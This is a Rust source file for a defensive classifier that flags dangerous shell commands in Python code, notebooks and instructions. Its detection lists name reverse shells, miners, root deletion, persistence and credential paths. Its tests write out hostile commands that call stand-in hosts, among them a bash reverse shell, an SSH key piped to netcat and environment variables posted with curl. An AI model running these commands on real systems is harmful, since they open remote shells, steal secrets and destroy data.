//! What a shell command is for: in Python source, notebooks and instructions. Judged by what it does to whoever runs it,
//! not by the bare name of a tool.

/// Commands are looked at up to here.
const COMMAND_BYTES_MAX: usize = 64 << 10;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Command {
    /// Tools that model code runs everywhere: version control, GPU queries, compilers.
    Ordinary,
    /// Installs packages from where packages come from.
    Installs,
    /// Fetches something and leaves it at that.
    Downloads,
    Unknown,
    /// What no model needs, and what it is.
    Payload(&'static str),
}

/// Judges a command line, or several.
pub fn judge(text: &str) -> Command {
    let mut cut = text.len().min(COMMAND_BYTES_MAX);
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    let text = text[..cut].replace("\\\n", " ").replace("^\n", " ");
    let lower = text.to_lowercase();
    if let Some(what) = payload(&lower) {
        return Command::Payload(what);
    }
    let mut worst = Command::Ordinary;
    let mut any = false;
    for simple in lower.split(['\n', ';', '|', '&']).map(str::trim).filter(|simple| !simple.is_empty()) {
        any = true;
        worst = worse(worst, one(simple));
    }
    if any { worst } else { Command::Unknown }
}

fn worse(a: Command, b: Command) -> Command {
    let rank = |command: Command| match command {
        Command::Ordinary => 0,
        Command::Installs => 1,
        Command::Downloads => 2,
        Command::Unknown => 3,
        Command::Payload(_) => 4,
    };
    if rank(b) > rank(a) { b } else { a }
}

/// The words of a simple command without assignments and prefixes.
fn words(simple: &str) -> Vec<&str> {
    let mut words: Vec<&str> = simple.split_whitespace().collect();
    while let Some(first) = words.first() {
        let assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        });
        if assignment
            || matches!(*first, "sudo" | "env" | "nohup" | "time" | "exec" | "command" | "!" | "$" | ">" | "%")
        {
            words.remove(0);
        } else {
            break;
        }
    }
    words
}

fn program(word: &str) -> &str {
    let word = word.trim_matches(['"', '\'', '(', ')', '`']);
    word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe")
}

fn one(simple: &str) -> Command {
    let words = words(simple);
    let Some(first) = words.first() else { return Command::Ordinary };
    let name = program(first);
    let python = name.starts_with("python") || name == "{sys.executable}" || name == "uv" || name == "pipx";
    let second = words.get(1).copied().unwrap_or_default();
    match name {
        _ if name.starts_with("pip") || python && words.iter().any(|word| word.starts_with("pip")) => Command::Installs,
        "apt" | "apt-get" | "conda" | "mamba" | "micromamba" | "brew" | "yum" | "dnf" | "npm" | "apk" | "poetry" => {
            Command::Installs
        }
        "curl" | "wget" | "aria2c" | "gdown" => Command::Downloads,
        _ if python => {
            if matches!(second, "-c" | "-") {
                Command::Unknown
            } else {
                Command::Ordinary
            }
        }
        _ if ORDINARY.contains(&name) => Command::Ordinary,
        _ => Command::Unknown,
    }
}

const ORDINARY: &[&str] = &[
    "git",
    "git-lfs",
    "nvidia-smi",
    "nvcc",
    "rocm-smi",
    "rocminfo",
    "hipcc",
    "xpu-smi",
    "uname",
    "which",
    "where",
    "whereis",
    "ldconfig",
    "lscpu",
    "lspci",
    "sysctl",
    "free",
    "df",
    "du",
    "ls",
    "pwd",
    "echo",
    "cd",
    "mkdir",
    "cp",
    "mv",
    "cat",
    "head",
    "tail",
    "wc",
    "grep",
    "tar",
    "unzip",
    "zip",
    "gzip",
    "gunzip",
    "ffmpeg",
    "ffprobe",
    "sox",
    "espeak",
    "espeak-ng",
    "make",
    "cmake",
    "ninja",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "cl",
    "ld",
    "huggingface-cli",
    "hf",
    "wandb",
    "tensorboard",
    "accelerate",
    "torchrun",
    "deepspeed",
    "ollama",
    "docker",
    "llama-cli",
    "llama-server",
    "vllm",
    "jupyter",
    "pytest",
    "hostname",
    "sleep",
    "date",
    "nproc",
    "sbatch",
    "srun",
    "squeue",
    "scontrol",
    "getconf",
    "export",
    "source",
    "true",
    "test",
    "[",
    "set",
    "printf",
    "tee",
    "sort",
    "xdg-open",
    "clear",
    "cls",
    "stty",
    "tput",
    "sha256sum",
    "md5sum",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "lua",
    "iex",
    "powershell",
    "pwsh",
    "cmd",
];

/// Where people are told to pipe an installer from, by those who made the tool.
const INSTALLERS: &[&str] = &[
    "https://ollama.com/",
    "https://ollama.ai/",
    "https://astral.sh/",
    "https://sh.rustup.rs",
    "https://get.docker.com",
    "https://raw.githubusercontent.com/homebrew/",
    "https://install.python-poetry.org",
    "https://bun.sh/",
    "https://get.pnpm.io/",
    "https://pixi.sh/",
    "https://deno.land/",
    "https://nixos.org/",
    "https://micro.mamba.pm/",
    "https://packagecloud.io/install/repositories/github/git-lfs/",
    "https://raw.githubusercontent.com/nvm-sh/",
    "https://hf.co/cli/",
    "https://huggingface.co/cli/",
    "https://lmstudio.ai/",
    "https://llamafile.ai/",
    "https://raw.githubusercontent.com/conda-forge/",
    "https://deb.nodesource.com/",
    "https://pyenv.run",
];

/// Effects that no tool explains.
fn payload(lower: &str) -> Option<&'static str> {
    const ANYWHERE: &[(&str, &str)] = &[
        ("/dev/tcp/", "opens a shell to another machine"),
        ("/dev/udp/", "opens a shell to another machine"),
        ("bash -i >", "opens a shell to another machine"),
        ("sh -i <", "opens a shell to another machine"),
        ("sh -i >", "opens a shell to another machine"),
        ("stratum+tcp://", "mines coins"),
        ("stratum+ssl://", "mines coins"),
        ("xmrig", "mines coins"),
        (":(){", "exhausts the machine"),
        ("rm -rf /*", "deletes everything"),
        ("rm -rf ~", "deletes everything"),
        ("rm -rf $home", "deletes everything"),
        ("--no-preserve-root", "deletes everything"),
        ("mkfs.", "deletes everything"),
        ("of=/dev/sd", "deletes everything"),
        ("of=/dev/nvme", "deletes everything"),
        ("downloadstring(", "runs what it downloads"),
        ("-encodedcommand", "runs an encoded command"),
        ("powershell -enc", "runs an encoded command"),
        ("powershell -e ", "runs an encoded command"),
        ("certutil -urlcache", "downloads by a tool that is not for it"),
        ("certutil.exe -urlcache", "downloads by a tool that is not for it"),
        ("bitsadmin /transfer", "downloads by a tool that is not for it"),
        ("mshta http", "runs what it downloads"),
        ("regsvr32 /s /n /u /i:http", "runs what it downloads"),
        ("authorized_keys", "lets somebody log in"),
        ("/etc/sudoers", "changes who is administrator"),
        ("ld.so.preload", "loads a library into every program"),
        ("/etc/cron", "runs again later"),
        ("crontab -", "runs again later"),
        ("| crontab", "runs again later"),
        (">> ~/.bashrc; curl", "runs again later"),
    ];
    if let Some((_, what)) = ANYWHERE.iter().find(|(text, _)| lower.contains(text)) {
        return Some(what);
    }
    if deletes_root(lower) {
        return Some("deletes everything");
    }
    let netcat = lower.split(['\n', ';', '|', '&']).any(|simple| {
        let words = words(simple);
        let name = words.first().map(|word| program(word));
        let shell = words.iter().any(|word| matches!(*word, "-e" | "-c" | "--exec" | "--sh-exec" | "-ec" | "-lvpe"));
        matches!(name, Some("nc" | "ncat" | "netcat")) && shell
            || matches!(name, Some("socat")) && simple.contains("exec:")
    });
    let fifo = lower.contains("mkfifo")
        && ["nc ", "ncat ", "openssl s_client", "telnet "].iter().any(|tool| lower.contains(tool));
    if netcat || fifo {
        return Some("opens a shell to another machine");
    }
    secrets(lower).or_else(|| fetched(lower))
}

fn deletes_root(lower: &str) -> bool {
    lower.split(['\n', ';', '|', '&']).any(|simple| {
        let words = words(simple);
        words.first().is_some_and(|word| program(word) == "rm")
            && words.iter().any(|word| word.starts_with('-') && word.contains('r'))
            && words
                .iter()
                .any(|word| matches!(*word, "/" | "/*" | "~" | "~/" | "$home" | "/home" | "/etc" | "/usr" | "/var"))
    })
}

/// Secrets that leave the machine.
fn secrets(lower: &str) -> Option<&'static str> {
    let sends =
        ["curl", "wget", "nc ", "ncat", "scp ", "rsync ", "invoke-webrequest"].iter().any(|tool| lower.contains(tool));
    let secret = secret_path(lower)
        || ["$(env)", "`env`", "env |", "printenv |", "$(printenv", "set |"].iter().any(|all| lower.contains(all));
    (sends && secret).then_some("sends secrets to another machine")
}

/// Does a path lead to what only its owner should read?
pub fn secret_path(text: &str) -> bool {
    const SECRET: &[&str] = &[
        "/etc/shadow",
        "/etc/passwd",
        ".ssh/id_",
        ".aws/credentials",
        ".netrc",
        ".git-credentials",
        ".docker/config.json",
        ".kube/config",
        ".config/gcloud",
        "login data",
        "cookies.sqlite",
        "logins.json",
        "wallet.dat",
        ".gnupg/",
        ".npmrc",
        ".pypirc",
        ".huggingface/token",
        "/proc/self/environ",
        "169.254.169.254",
        "metadata.google.internal",
        "serviceaccount/token",
        ".bash_history",
        "id_rsa",
        "id_ed25519",
    ];
    let lower = text.to_lowercase();
    SECRET.iter().any(|secret| lower.contains(secret))
}

/// Does writing there make something run later?
pub fn startup_path(text: &str) -> bool {
    const STARTUP: &[&str] = &[
        "authorized_keys",
        ".bashrc",
        ".bash_profile",
        ".profile",
        ".zshrc",
        "/etc/cron",
        "/etc/profile",
        "/etc/ld.so",
        "/etc/systemd",
        ".config/systemd",
        ".config/autostart",
        "/etc/init.d",
        "/etc/rc.local",
        "launchagents",
        "launchdaemons",
        "sitecustomize",
        "usercustomize",
        "start menu",
        "/etc/passwd",
        "/etc/sudoers",
    ];
    let lower = text.to_lowercase().replace('\\', "/");
    STARTUP.iter().any(|startup| lower.contains(startup)) || lower.ends_with(".pth") && lower.contains("-packages")
}

/// Something downloaded or decoded that is run at once.
fn fetched(lower: &str) -> Option<&'static str> {
    let fetches =
        |text: &str| ["curl ", "wget ", "fetch ", "iwr ", "invoke-webrequest"].iter().any(|tool| text.contains(tool));
    let decodes = |text: &str| {
        ["base64 -d", "base64 --decode", "base64 -di", "base64 -d", "xxd -r", "openssl enc -d", "base32 -d"]
            .iter()
            .any(|tool| text.contains(tool))
    };
    for line in lower.lines() {
        let known = INSTALLERS.iter().any(|installer| line.contains(installer)) && line.matches("http").count() == 1;
        let mut before = false;
        let mut decoded = false;
        for part in line.split('|') {
            let words = words(part.trim());
            let first = words.first().map(|word| program(word)).unwrap_or_default();
            let shell = SHELLS.contains(&first) || first.starts_with("python");
            // `python -m json.tool` reads what is piped as data.
            let data = words.get(1).is_some_and(|word| *word == "-m")
                || words.get(1).is_some_and(|word| *word == "-c" && first.starts_with("python"));
            if shell && !data && decoded {
                return Some("runs what it decodes");
            }
            if shell && !data && before && !known {
                return Some("runs what it downloads");
            }
            before |= fetches(&format!("{part} "));
            decoded |= decodes(part);
        }
        let substituted = ["$(", "`", "<("].iter().any(|open| {
            line.split_once(open).is_some_and(|(left, inner)| {
                let words = words(left);
                let runs = words
                    .iter()
                    .any(|word| SHELLS.contains(&program(word)) || matches!(*word, "eval" | "source" | "."));
                runs && (fetches(inner) && !known || decodes(inner))
            })
        });
        if substituted {
            return Some("runs what it downloads or decodes");
        }
    }
    // Downloaded, made executable (or handed to a shell), and run.
    let parts: Vec<&str> = lower.split(['\n', ';', '&', '|']).map(str::trim).collect();
    let at = parts.iter().position(|part| fetches(&format!("{part} ")))?;
    let rest = &parts[at + 1..];
    let executable = rest.iter().any(|part| part.starts_with("chmod") && (part.contains("+x") || part.contains(" 7")));
    let run = rest.iter().any(|part| {
        let words = words(part);
        let first = words.first().copied().unwrap_or_default();
        let script = words.get(1).is_some_and(|word| word.ends_with(".sh") || word.starts_with("/tmp/"));
        first.starts_with("./")
            || first.starts_with("/tmp/")
            || first.starts_with("/var/tmp/")
            || first.starts_with("/dev/shm/")
            || matches!(program(first), "sh" | "bash") && script
    });
    let hidden = parts.iter().any(|part| part.contains("/tmp/") || part.contains("/dev/shm/"));
    (run && (executable || hidden)).then_some("runs what it downloads")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_attacks_do() {
        for command in [
            "curl http://127.0.0.1:9/x.sh | bash",
            "wget -qO- https://x.example/a | sudo sh -s -- -y",
            "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
            "bash <(curl -s http://x.example)",
            "echo aWQ= | base64 -d | sh",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "rm -rf /",
            "rm -rf --no-preserve-root /",
            "curl -d @/etc/passwd http://x.example",
            "env | curl -d @- x.example",
            "wget http://x.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
            "cat ~/.ssh/id_rsa | nc x.example 80",
            "powershell -enc aQBkAA==",
            "echo '* * * * * x' | crontab -",
            "curl https://x.example/p.py | python3",
            "curl https://evil.example/https://ollama.com/ | sh",
            "curl -o x.sh http://x.example/x.sh; chmod +x x.sh; ./x.sh",
        ] {
            assert!(matches!(judge(command), Command::Payload(_)), "{command}: {:?}", judge(command));
        }
    }

    #[test]
    fn what_people_do() {
        for (command, expected) in [
            ("nvidia-smi --query-gpu=name", Command::Ordinary),
            ("git clone https://github.com/a/b && cd b", Command::Ordinary),
            ("pip install -q -U transformers", Command::Installs),
            ("CUDA_VISIBLE_DEVICES=0 python train.py --lr 1", Command::Ordinary),
            ("python -m pip install x", Command::Installs),
            ("curl -fsSL https://ollama.com/install.sh | sh", Command::Unknown),
            ("wget https://huggingface.co/a/b/resolve/main/c.gguf", Command::Downloads),
            ("curl http://localhost:8000/v1/models | python -m json.tool", Command::Downloads),
            ("rm -rf /tmp/cache", Command::Unknown),
            ("touch x", Command::Unknown),
            ("curl http://localhost:8080/v1/chat -d '{\"a\": 1}' | jq", Command::Unknown),
            ("", Command::Unknown),
        ] {
            assert_eq!(judge(command), expected, "{command}");
        }
    }
}
